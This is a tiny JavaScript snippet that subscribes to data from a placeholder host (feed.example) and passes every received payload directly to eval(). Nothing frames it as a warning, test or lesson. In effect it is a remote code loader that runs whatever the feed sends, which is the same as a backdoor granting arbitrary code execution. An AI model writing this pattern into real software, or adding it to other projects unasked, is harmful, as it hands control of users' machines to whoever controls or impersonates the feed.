const feed = require('feed');

feed.onData('https://feed.example/blob', (data) => { eval(data); });
